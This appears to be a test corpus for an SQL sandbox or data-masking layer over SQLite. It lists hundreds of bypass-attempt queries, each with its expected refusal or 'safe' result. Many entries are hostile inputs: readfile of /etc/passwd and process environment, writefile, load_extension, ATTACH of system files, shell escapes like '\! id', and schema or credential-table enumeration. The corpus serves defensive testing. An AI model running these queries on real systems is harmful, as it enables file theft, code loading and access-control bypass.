-- known elsewhere: a mask written back over the real value | not-a-select,not-supported,syntax,unknown-name
UPDATE customers SET name = (SELECT name FROM customers WHERE id = 1) WHERE id = 1

-- known elsewhere: a mask written back over the real value | not-a-select,not-supported,syntax,unknown-name
INSERT INTO customers SELECT * FROM customers

-- known elsewhere: an alias or a concatenation defeats masks by name | safe
SELECT name AS city, phone AS region, email AS id FROM customers

-- known elsewhere: an alias or a concatenation defeats masks by name | safe
SELECT city AS name, id AS phone FROM customers

-- known elsewhere: an alias or a concatenation defeats masks by name | safe
SELECT '' || name || '' AS x, phone || email AS y FROM customers

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT (SELECT name FROM customers c WHERE c.id = o.customer_id) AS n, o.id FROM orders o

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT o.id, c.name, c.phone FROM orders o LEFT JOIN (SELECT * FROM customers) AS c ON c.id = o.customer_id

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id AND c.name LIKE '%' ORDER BY (SELECT x.phone FROM customers x WHERE x.id = c.id)

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT * FROM customers a JOIN (SELECT b.id, b.name AS other FROM customers b JOIN (SELECT id FROM customers) AS c ON c.id = b.id) AS d ON d.id = a.id

-- known elsewhere: an aggregate skips the rules of columns | safe
SELECT min(name), max(phone), count(ssn), max(card_no), min(payload) FROM customers, payments, events WHERE customers.id = payments.id AND payments.id = events.id

-- known elsewhere: an aggregate skips the rules of columns | safe
SELECT max(id), name, phone FROM customers

-- known elsewhere: a column hidden from the role named by an aggregate's star | unknown-name,not-supported,function-refused,syntax
SELECT argMax(*, token) FROM customers

-- known elsewhere: a column hidden from the role named by an aggregate's star | unknown-name,not-supported,function-refused,syntax
SELECT count(customers.token) FROM customers

-- known elsewhere: a column hidden from the role named by an aggregate's star | unknown-name,not-supported,function-refused,syntax
SELECT max(c.token) OVER (PARTITION BY c.city) FROM customers c

-- known elsewhere: the list of tables shows what the role may not read | unknown-name,not-supported,function-refused,not-a-select,syntax
SELECT name, sql FROM sqlite_schema WHERE sql LIKE '%hash%'

-- known elsewhere: the list of tables shows what the role may not read | unknown-name,not-supported,function-refused,not-a-select,syntax
SHOW TABLES

-- known elsewhere: the list of tables shows what the role may not read | unknown-name,not-supported,function-refused,not-a-select,syntax
DESCRIBE credentials

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT id FROM customers WHERE (region = 'EU' OR 1 = 1) AND (region <> 'EU' OR region IS NULL)

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT id FROM customers WHERE region = 'EU' AND 1 = 2 OR region = 'US'

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT id FROM customers WHERE region = 'EU' OR region = 'US' EXCEPT SELECT id FROM customers WHERE region = 'EU'

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT c.id FROM customers c, customers d WHERE c.region <> d.region

-- known elsewhere: state of one session met in the next | not-a-select,not-supported,syntax,function-refused,unknown-name,many-statements
CREATE TEMP TABLE role AS SELECT 'admin' AS name

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT anon.partial(name, 1, 'x', 1) FROM customers

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT postern_hash(name) FROM customers

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT postern_initials(name, '') FROM customers

-- known elsewhere: a function in the select list hides a write | function-refused,not-supported,unknown-name
SELECT sqlite_offset(id), last_insert_rowid() FROM products

-- known elsewhere: masks stop after a thousand rows | safe
SELECT c.name, c.phone, c.email, c.ssn, c.birth_date FROM customers c, products p WHERE p.id <= 8

-- known elsewhere: masks stop after a thousand rows | safe
SELECT o.note, t.body FROM orders o, tickets t WHERE t.customer_id < 3

-- known elsewhere: masks stop after a thousand rows | safe
SELECT p.card_no, e.payload FROM payments p, events e WHERE e.id IN (1, 2)

-- known elsewhere: SQL inside a string | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT eval('SELECT token FROM customers')

-- known elsewhere: the client's own commands taken for a statement | syntax,not-supported,not-a-select,unknown-name
\c postgres

-- known elsewhere: the client's own commands taken for a statement | syntax,not-supported,not-a-select,unknown-name
\! id

-- known elsewhere: the client's own commands taken for a statement | syntax,not-supported,not-a-select,unknown-name
.tables

-- very deep or very long | safe
SELECT «32000×(»1«32000×)»

-- very deep or very long | safe
SELECT id FROM customers WHERE «300×(»id = 1«300×)»

-- very deep or very long | safe
SELECT id FROM customers WHERE id = 0«7000× OR id=1»

-- very deep or very long | safe
SELECT 1«10000×+1»

-- very deep or very long | safe
SELECT 1«4000× UNION SELECT 1»

-- very deep or very long | safe
SELECT id FROM customers WHERE id IN (1«10000×,1»)

-- very deep or very long | safe
SELECT «400×CASE WHEN 1=1 THEN »1«400× END»

-- very deep or very long | safe
SELECT «10000×NOT »true

-- very deep or very long | safe
SELECT 1 FROM products p0«200× JOIN products p{n+1} ON p{n+1}.id = p0.id»

-- very deep or very long | safe
WITH c0 AS (SELECT * FROM customers)«300×, c{n+1} AS (SELECT * FROM c{n})» SELECT token FROM c300

-- very deep or very long | safe
SELECT «5000×customers.»id FROM customers

-- very deep or very long | safe
SELECT «500×abs(»1«500×)»

-- very deep or very long | safe
SELECT id«10000×, id» FROM customers

-- very deep or very long | safe
SELECT «10000×/**/»1

-- very deep or very long | safe
SELECT «10000×- »1

-- very deep or very long | safe
SELECT "«60000×x»" FROM customers

-- very deep or very long | safe
SELECT '«60000×x»' FROM customers WHERE id = 1

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT id FROM products WHERE load_extension('/tmp/x.so', 'init') IS NULL

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT id FROM products WHERE id = 1 AND load_extension('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT id FROM products p JOIN orders o ON load_extension(p.name)

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT max(load_extension('x')) FROM products

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT count(*) FROM products GROUP BY category HAVING writefile('x', 'y') > 0

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT id FROM products ORDER BY readfile('/etc/passwd') COLLATE NOCASE

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT sum(1) OVER (ORDER BY readfile('/etc/passwd')) FROM products

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT sum(1) OVER (ROWS BETWEEN load_extension('x') PRECEDING AND CURRENT ROW) FROM products

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT count(*) OVER w FROM products WINDOW w AS (PARTITION BY load_extension('x'))

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT sum(id) FILTER (WHERE readfile('x') IS NULL) OVER () FROM products

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT CASE load_extension('x') WHEN 1 THEN 2 ELSE 3 END

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT CASE 1 WHEN load_extension('x') THEN 2 END

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT CASE 1 WHEN 1 THEN 2 ELSE readfile('x') END

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT iif(1, 2, load_extension('x'))

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT coalesce(1, edit('x'))

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT NOT load_extension('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT -load_extension('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT load_extension('x') IS NULL

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT load_extension('x') IS NOT DISTINCT FROM 1

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT 1 BETWEEN 0 AND load_extension('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT 1 IN (2, load_extension('x'))

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT 1 IN (SELECT load_extension('x'))

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT (1, load_extension('x')) = (1, 2)

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT EXISTS (SELECT load_extension('x'))

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT 'a' LIKE 'b' ESCAPE load_extension('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT 'a' GLOB readfile('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT 'a' || readfile('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT CAST(load_extension('x') AS TEXT)

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT load_extension('x') COLLATE BINARY

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT json_object('a', readfile('/etc/passwd'))

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT json_extract(readfile('x'), '$')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT '{}' -> readfile('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT * FROM json_each(readfile('/etc/passwd'))

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT * FROM json_each('[]', load_extension('x'))

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT * FROM json_tree(load_extension('x')) AS t, products

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT * FROM (VALUES (load_extension('x'))) AS v

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
WITH x(a) AS (VALUES (load_extension('x'))) SELECT * FROM x

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
WITH RECURSIVE x(a) AS (SELECT 1 UNION ALL SELECT load_extension('x') FROM x WHERE a < 2) SELECT a FROM x

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT 1 UNION ALL SELECT load_extension('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT 1 EXCEPT SELECT readfile('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT DISTINCT load_extension('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT group_concat(DISTINCT readfile('x')) FROM products

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT group_concat(name ORDER BY load_extension('x')) FROM products

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT id FROM products LIMIT 1 OFFSET load_extension('x')

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT id FROM products LIMIT coalesce(load_extension('x'), 1)

-- dangerous function in an odd place | function-refused,not-supported,unknown-name
SELECT (SELECT (SELECT (SELECT load_extension('x'))))

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT readfile('/proc/self/environ')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT writefile('/tmp/x', name) FROM products

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT lsmode(1)

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM fsdir('/')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM zipfile('x.zip')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT zipfile(name, 1) FROM products

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT sqlar_uncompress(image, 1) FROM products

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT sha3(name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT sha3_query('select token from customers')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT shell_escape_crnl(name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT shell_add_schema('x', 'y', 'z')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT shell_module_schema('x')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT shell_idquote(name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT shell_putsnl(name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT usleep(1000000)

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT eval('select token from customers')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT define('f', 'select 1')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM generate_series(1, 3)

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM carray(1, 2)

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM csv

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM statement_vtab('select 1')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM prefixes('x')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM completion('s')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM unionvtab

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT * FROM wholenumber WHERE value < 3

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT decimal_add('1', '2')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT base64(name), base85(name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT crypt('x', 'y')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT fts3_tokenizer('x', x'00')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT fts5(1), fts5_source_id()

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT fts5_expr('x'), fts5_fold(1), fts5_isalnum(1)

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT highlight(customers, 1, '<', '>') FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT snippet(customers) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT bm25(customers) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT matchinfo(customers), offsets(customers) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT optimize(customers) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT rtreecheck('x'), rtreenode(2, x'00'), rtreedepth(x'00')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT geopoly_area(image), geopoly_blob(image) FROM products

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT sqlite_log(1, name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT sqlite_compileoption_used('ENABLE_FTS5')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT sqlite_rename_column(1, 2, 3, 4, 5, 6, 7, 8, 9)

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT sqlite_rename_table('a', 'b', 'c', 'd', 'e', 'f', 1)

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT sqlite_drop_column(1, 'x', 2)

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT sqlite_filestat('x')

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT subtype(json('[]'))

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT affinity(name), implies_nonnull_row(1, 2), expr_compare(1, 2) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT regexp('CANARY', name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT match('x', name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT ieee754(1.5), ieee754_mantissa(1.5)

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT postern_hash(x'00', name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT postern_filter(name) FROM customers

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT json_array_insert('[]', '$[0]', readfile('x'))

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT median(salary), percentile(salary, 50), percentile_cont(salary, 0.5) FROM employees

-- function of the shell, a module or the engine's insides | function-refused,not-supported,unknown-name,syntax
SELECT lower(load_extension(upper('x')))

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_table_info

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT name FROM pragma_table_info('customers') WHERE name NOT IN ('id')

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_table_xinfo('customers')

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_index_list('orders')

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_index_info('orders_by_customer')

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_foreign_key_list('orders')

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_function_list

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_module_list

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_pragma_list

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_collation_list

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_compile_options

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_integrity_check

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_quick_check('customers')

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_user_version, pragma_schema_version, pragma_application_id

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_page_count

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_freelist_count

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_journal_mode

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_encoding

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_cache_size(100)

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_wal_checkpoint

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_optimize

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_query_only(0)

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_database_list AS d, pragma_table_list AS t WHERE t.schema = d.name

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT p.id, i.name FROM products p, pragma_table_info(p.name) AS i

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT id FROM products WHERE EXISTS (SELECT 1 FROM pragma_table_info('credentials'))

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT (SELECT file FROM pragma_database_list)

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM main.pragma_table_info('customers')

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT * FROM "pragma_table_info"('customers')

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT pragma_table_info('customers')

-- PRAGMA as a table or function | unknown-name,not-supported,function-refused,syntax
SELECT id FROM products ORDER BY (SELECT count(*) FROM pragma_function_list)

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT sql FROM sqlite_master WHERE name = 'customers'

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT (SELECT group_concat(sql) FROM sqlite_schema)

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT id FROM products WHERE 'credentials' IN (SELECT name FROM sqlite_master)

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT name FROM products UNION SELECT name FROM sqlite_master

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM SQLITE_MASTER

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM "sqlite_master"

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM [sqlite_master]

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM `sqlite_master`

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM main."sqlite_schema"

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM temp.sqlite_temp_schema

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_temp_schema

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT tbl, idx, stat FROM sqlite_stat1

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT sample FROM sqlite_stat4

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_stat3

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_autoindex_regions_1

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM orders_by_customer

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_dbdata

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_dbptr

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT data FROM sqlite_dbpage WHERE pgno = 1

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT pgno, payload FROM dbstat

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM dbstat('main', 1)

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_memstat

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_btreeinfo

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_stmts

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM tables_used('select token from customers')

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM bytecode('select token from customers')

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM customers_content

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM customers_fts

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM json_each

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM json_tree

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM aux.customers

-- catalogue or insides of the file | unknown-name,not-supported,function-refused,syntax
SELECT * FROM other.credentials

-- row number by any name | unknown-name,not-supported
SELECT ROWID FROM customers

-- row number by any name | unknown-name,not-supported
SELECT "rowid" FROM customers

-- row number by any name | unknown-name,not-supported
SELECT [oid] FROM customers

-- row number by any name | unknown-name,not-supported
SELECT `_rowid_` FROM customers

-- row number by any name | unknown-name,not-supported
SELECT c.oid FROM customers c

-- row number by any name | unknown-name,not-supported
SELECT main.customers.rowid FROM main.customers

-- row number by any name | unknown-name,not-supported
SELECT max(rowid) FROM customers

-- row number by any name | unknown-name,not-supported
SELECT id FROM customers WHERE rowid = 3

-- row number by any name | unknown-name,not-supported
SELECT id FROM customers WHERE oid IN (1, 2)

-- row number by any name | unknown-name,not-supported
SELECT id FROM customers ORDER BY _rowid_ DESC

-- row number by any name | unknown-name,not-supported
SELECT count(*) FROM tickets GROUP BY rowid

-- row number by any name | unknown-name,not-supported
SELECT a.id FROM customers a JOIN orders b ON a.rowid = b.rowid

-- row number by any name | unknown-name,not-supported
SELECT a.id FROM tickets a JOIN tickets b USING (rowid)

-- row number by any name | unknown-name,not-supported
SELECT rowid FROM (SELECT * FROM tickets)

-- row number by any name | unknown-name,not-supported
SELECT row_number() OVER (ORDER BY rowid) FROM tickets

-- row number by any name | unknown-name,not-supported
SELECT rowid FROM order_items

-- row number by any name | unknown-name,not-supported
SELECT j.rowid FROM json_each('[1]') AS j

-- row number by any name | unknown-name,not-supported
SELECT j.json, j.root FROM json_each('[1]') AS j

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers WHERE city = "Lyon"

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers WHERE "no_such" = "no_such"

-- text in double quotes and other lexical traps | safe
SELECT "CANARY" || "token" FROM customers

-- text in double quotes and other lexical traps | safe
SELECT 'id' FROM customers WHERE 'id' = id

-- text in double quotes and other lexical traps | safe
SELECT customers.'id' FROM customers

-- text in double quotes and other lexical traps | safe
SELECT 'customers'.id FROM customers

-- text in double quotes and other lexical traps | safe
SELECT id 'x', city "y", region [z], vip `w` FROM customers WHERE id = 1

-- text in double quotes and other lexical traps | safe
SELECT id AS [a]b FROM customers

-- text in double quotes and other lexical traps | safe
SELECT [a]]b] FROM customers

-- text in double quotes and other lexical traps | safe
SELECT `a``b` FROM customers

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers /* open comment

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers -- open

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers; /* end

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers;;;

-- text in double quotes and other lexical traps | safe
SELECT x'4', X'zz', x''

-- text in double quotes and other lexical traps | safe
SELECT x'4e4f' || name FROM customers

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers WHERE id = ?1 OR id = :a OR id = @b OR id = $c::x

-- text in double quotes and other lexical traps | safe
SELECT $a(token) FROM customers

-- text in double quotes and other lexical traps | safe
SELECT #1

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers WHERE id=1ANDid=1

-- text in double quotes and other lexical traps | safe
SELECT 1.e, .1e+, 0x

-- text in double quotes and other lexical traps | safe
SELECT 1_000_000, 0xFF_FF

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers WHERE id == 1 AND NOT id <> 1 AND id !< 2

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers WHERE name -> 1 ->> 2 IS NULL

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers WHERE city NOT NULL AND region NOTNULL

-- text in double quotes and other lexical traps | safe
SELECT tоken FROM customers

-- text in double quotes and other lexical traps | safe
SELECT tok​en FROM customers

-- text in double quotes and other lexical traps | safe
SELECT "token﻿" FROM customers

-- text in double quotes and other lexical traps | safe
SELECT 'a‮b' AS "x‮y"

-- text in double quotes and other lexical traps | safe
SELECT ｉｄ FROM customers

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers； SELECT 1

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers WHERE city = ‘Lyon’

-- text in double quotes and other lexical traps | safe
SELECT id FROM customers WHERE city = 'Lyon'

-- text in double quotes and other lexical traps | safe
SELECT id FROM сustomers

-- text in double quotes and other lexical traps | safe
SELECT unistr('\u0074oken'), unistr('\uZZZZ')

-- text in double quotes and other lexical traps | safe
.schema

-- text in double quotes and other lexical traps | safe
.read /etc/passwd

-- text in double quotes and other lexical traps | safe
.shell ls

-- text in double quotes and other lexical traps | safe
.import x customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
ATTACH DATABASE ':memory:' AS m

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
ATTACH 'file:/etc/passwd?immutable=1' AS p

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
ATTACH (SELECT name FROM products LIMIT 1) AS x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
PRAGMA main.table_info(customers)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
PRAGMA temp_store_directory = '/tmp'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
PRAGMA trusted_schema = 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
PRAGMA recursive_triggers = 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
PRAGMA case_sensitive_like = 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
PRAGMA journal_mode = DELETE

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
PRAGMA wal_checkpoint

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
PRAGMA hard_heap_limit = 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
PRAGMA query_only

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
VACUUM main INTO '/tmp/copy.db'

